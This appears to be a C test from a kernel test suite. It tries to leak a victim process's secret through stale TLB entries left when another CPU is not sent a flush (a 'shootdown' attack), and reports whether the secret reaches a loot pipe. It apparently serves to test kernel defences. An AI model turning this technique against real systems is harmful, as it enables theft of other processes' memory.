/*
 * attack_shootdown - against the wall "shootdown": other CPUs flush what one of them takes away.
 *
 * One thread reads some pages on CPU 1 and goes on reading them for ever. Another unmaps them on CPU 0, and the frames
 * become the victim's, who lays its secret into them. Whoever still has the old translations in its TLB reads it. A TLB
 * forgets: so there are several victims and attackers, one pair after the other.
 */
/* run: --smp=2 */
#include "attack.h"
#include "threads.h"

#include <sys/mman.h>

#define PAGES   16
#define VICTIMS 15

static volatile struct marked *pages[PAGES];
static int reading, loot_fd;

static int reads_on(void *unused)
{
	unsigned char bytes[SECRET];
	uint64_t sum = 0;

	(void)unused;
	run_on(1);
	for (uint64_t round = 1;; round++) {
		for (int i = 0; i < PAGES; i++) {
			sum += pages[i]->mark[0];
			if (!is_marked(pages[i]->mark[0], pages[i]->mark[1]))
				continue;
			for (int k = 0; k < SECRET; k++) /* the kernel would look into the tables again */
				bytes[k] = pages[i]->secret[k];
			sc(SYS_write, loot_fd, bytes, SECRET);
			sc(SYS_exit_group, 0);
		}
		if (round == 2) /* now all of them are in this CPU's TLB */
			__atomic_store_n(&reading, 1, __ATOMIC_SEQ_CST);
	}
	return (int)sum;
}

static void attacker(int victim_go, int victim_done, int loot)
{
	char *all = mmap(0, PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	close(2);
	run_on(0);
	loot_fd = loot;
	memset(all, 'x', PAGES * PAGE);
	for (int i = 0; i < PAGES; i++)
		pages[i] = (void *)(all + i * PAGE);
	thread_raw(reads_on, 0);
	while (!read_word(&reading))
		sc(SYS_sched_yield);
	munmap(all, PAGES * PAGE);
	pass(victim_go);
	await(victim_done);
	sleep_ms(100); /* the reader has had its time */
	_exit(0);
}

/* Its secret is everywhere, so that the frames that were freed last are among them. */
static void victim(int go, int done, int stop)
{
	char *all = mmap(0, 8 * PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	struct marked m;

	run_on(0);
	await(go);
	victim_draw(m.secret);
	m.mark[0] = SUM - KEY;
	m.mark[1] = SUM - 2 * KEY;
	for (int i = 0; i < 8 * PAGES; i++)
		memcpy(all + i * PAGE, &m, sizeof m);
	pass(done);
	await(stop);
	_exit(0);
}

static void close_both(const int fd[2])
{
	close(fd[0]);
	close(fd[1]);
}

/* One victim: is its secret stolen? */
static int attack(void)
{
	int loot[2], go[2], done[2], stop[2], victim_pid, attacker_pid, success;

	make_pipe(loot);
	make_pipe(go);
	make_pipe(done);
	make_pipe(stop);
	victim_pid = fork();
	if (victim_pid == 0) {
		close(go[1]);
		close(stop[1]);
		victim(go[0], done[1], stop[0]);
	}
	attacker_pid = fork();
	if (attacker_pid == 0)
		attacker(go[1], done[0], loot[1]);
	close(loot[1]);
	wait_for(attacker_pid);
	close(stop[1]);
	wait_for(victim_pid);
	success = report_success(loot[0]);
	close(loot[0]);
	close(stop[0]);
	close_both(go);
	close_both(done);
	return success;
}

int main(void)
{
	return attack_several(attack, VICTIMS);
}
